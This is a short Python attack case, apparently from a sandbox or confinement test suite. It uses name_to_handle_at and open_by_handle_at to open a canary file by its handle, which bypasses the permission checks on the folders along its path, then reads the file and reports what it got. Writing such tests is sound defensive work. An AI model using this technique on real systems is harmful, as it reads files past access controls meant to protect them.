"""Opens a file by its handle instead of its path, which asks no folder on the way."""

import ctypes
import os
import struct

from attack import attack, call, target, tell


@attack
def _():
    handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.c_int()
    call("name_to_handle_at", -100, target.canary.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open("/", os.O_RDONLY)
    tell(os.read(call("open_by_handle_at", folder, handle, 0), 1000))
